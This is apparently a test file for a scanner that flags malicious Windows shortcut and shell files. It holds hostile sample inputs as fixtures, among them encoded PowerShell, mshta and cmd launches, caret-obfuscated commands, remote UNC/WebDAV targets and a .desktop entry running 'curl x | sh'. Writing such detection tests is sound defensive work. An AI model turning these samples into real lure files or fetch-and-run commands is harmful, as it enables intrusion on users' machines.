import { describe, expect, test } from "vitest";
import { shellFileExtractor } from "../../../../../src/scan/extractors/shortcut/shell-file.ts";
import { shortcutExtractor } from "../../../../../src/scan/extractors/shortcut/shortcut.ts";
import { buildShortcut } from "../../../../support/build-shortcut.ts";
import { extract } from "../../../../support/extract.ts";

describe("shortcutExtractor", () => {
  test.each([
    ["a shell", { target: "%windir%\\System32\\cmd.exe", commandLine: "/c start a.js" }, 1],
    ["a shell in octets", { target: "powershell.exe", commandLine: "-enc AAAA", isAnsi: true }, 1],
    [
      "an interpreter in the arguments",
      { target: "%windir%\\explorer.exe", commandLine: "/x & mshta https://example.org" },
      1,
    ],
    ["a name with carets", { target: "a.exe", commandLine: "p^ow^ersh^ell -c x" }, 1],
    ["a program of a foreign host", { target: "\\\\203.0.113.3@80\\dav\\a.exe" }, 1],
    ["a hidden file", { target: "C:\\a.txt", appended: Buffer.alloc(100, "x") }, 1],
    ["zeros behind it", { target: "C:\\a.txt", appended: Buffer.alloc(100) }, 0],
    ["a document", { target: "C:\\Users\\a\\report.docx", icon: "C:\\icons.dll" }, 0],
    [
      "a program with a document",
      { target: "C:\\Program Files\\Editor\\editor.exe", commandLine: '"C:\\notes.txt"' },
      0,
    ],
  ])("judges %s", (_name, plan, count) => {
    expect(extract(shortcutExtractor, buildShortcut(plan)).heuristics).toHaveLength(count);
  });

  test("gives the command line as text, without the blanks that hide its end, and what stands behind", () => {
    const appended = Buffer.alloc(200, "octets");
    const plan = { target: "cmd.exe", commandLine: `/c a${" ".repeat(500)}& start b`, appended };
    const { entries } = extract(shortcutExtractor, buildShortcut(plan));
    expect(entries.map(({ name }) => name)).toEqual(["command line", "appended"]);
    expect(entries[0]?.bytes.toString()).toMatch(/\/c a & start b/);
    expect(entries[0]?.bytes.toString()).toMatch(/cmd\.exe/);
    expect(entries[1]?.bytes.equals(appended)).toBe(true);
  });

  test("reads as far as there are octets", () => {
    const file = buildShortcut({ target: "cmd.exe", commandLine: "/c calc" });
    for (let length = 76; length < file.length; length += 7) {
      expect(extract(shortcutExtractor, file.subarray(0, length)).reasons).toEqual([]);
    }
    const all = Buffer.from(file);
    all.writeUInt32LE(0xffffffff, 20);
    expect(extract(shortcutExtractor, all).entries.length).toBeGreaterThan(0);
  });
});

describe("shellFileExtractor", () => {
  const count = (content: string | Buffer): number =>
    extract(shellFileExtractor, Buffer.from(content)).heuristics.length;

  test.each([
    ["[InternetShortcut]\r\nURL=file://203.0.113.4/a/b.hta\r\n"],
    ["[InternetShortcut]\r\nURL=file://server/share/a.exe\r\n"],
    ["; comment\r\n[InternetShortcut]\r\nIDList=\r\nURL=\\\\203.0.113.4@SSL\\a.lnk\r\n"],
    ["[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\203.0.113.4\\a.ico\r\n"],
    ["[InternetShortcut]\r\nURL=search-ms:query=a&crumb=location:\\\\example.org\r\n"],
    ["[Shell]\r\nCommand=2\r\nIconFile=\\\\example.org\\share\\a.ico\r\n"],
    ['#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=sh -c "curl x | sh"\n'],
    [
      '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\example.org\\share</url></simpleLocation></libraryDescription>',
    ],
    [
      '<?xml version="1.0"?><searchConnectorDescription><url>https://example.org/dav</url></searchConnectorDescription>',
    ],
    [
      '<?xml version="1.0"?><PCSettings><SearchableContent><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></SearchableContent></PCSettings>',
    ],
    ["WEB\r\n1\r\nhttps://example.org/a.txt\r\n"],
  ])("finds %s suspicious", (text) => {
    expect(count(text)).toBe(1);
    expect(count(Buffer.from(`\ufeff${text}`, "utf16le"))).toBe(1);
  });

  test.each([
    ["[InternetShortcut]\r\nURL=https://example.org/a.html\r\nIconFile=C:\\icons.dll\r\n"],
    ["[InternetShortcut]\r\nURL=file://server/share/report.docx\r\n"],
    ["[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n"],
    ["[Desktop Entry]\nType=Link\nURL=https://example.org\n"],
    [
      '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>knownfolder:{FDD39AD0}</url></libraryDescription>',
    ],
    ["[section]\r\nURL=file://203.0.113.4/a.hta\r\n"],
    ["<html><body>URL=file://203.0.113.4/a.hta</body></html>"],
    ["Webster 1 https"],
  ])("finds nothing in %s", (text) => {
    expect(count(text)).toBe(0);
  });
});
